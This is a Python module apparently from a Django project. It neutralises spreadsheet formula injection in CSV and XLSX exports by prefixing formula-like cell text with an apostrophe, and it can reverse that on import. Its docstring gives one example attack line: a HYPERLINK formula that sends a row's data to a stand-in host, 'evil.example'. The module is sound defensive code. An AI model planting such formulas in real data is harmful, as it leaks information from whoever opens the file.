"""Spreadsheet cells that no spreadsheet program runs.

A CSV or XLSX cell of text that starts with `=`, `+`, `-`, `@`, a tab or a carriage return is
taken for a formula by Excel and its kin (`=HYPERLINK("http://evil.example/?x="&A1,"x")` in a
speaker's name sends the row away when someone clicks it). Every export of the project writes
its cells through `inert`: such text gets a leading apostrophe, which makes it plain text (in
an XLSX a string cell, never a formula). Numbers stay numbers: a number (`-5`, as a number or
as the text of one) is not a formula and is left as it is. `restored` undoes it, so that an
exported list imports again as it was.

`InertExport` is the mixin every django-import-export resource of the project uses (so the
admin's exports, `manage.py export` and the record's pages are all covered); `inert_dataset`
does the same to a dataset made any other way.
"""

from __future__ import annotations

import re

import tablib

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def inert(value):
    """`value` as a cell no spreadsheet takes for a formula: text starting like one gets a
    leading apostrophe; numbers, and the text of a plain number, are left as they are."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS) and not NUMBER.fullmatch(value):
        return f"'{value}"
    return value


def restored(value: str) -> str:
    """The text `inert` was given, from what it made (an exported cell read back)."""
    if value.startswith("'") and inert(value[1:]) == value:
        return value[1:]
    return value


def inert_dataset(dataset: tablib.Dataset) -> tablib.Dataset:
    """A copy of `dataset` with every cell `inert` (headers too)."""
    return tablib.Dataset(
        *([inert(value) for value in row] for row in dataset),
        headers=[inert(header) for header in dataset.headers] if dataset.headers else None,
        title=dataset.title,
    )


class InertExport:
    """A django-import-export resource whose exports hold no formula."""

    def export(self, *args, **kwargs) -> tablib.Dataset:
        return inert_dataset(super().export(*args, **kwargs))
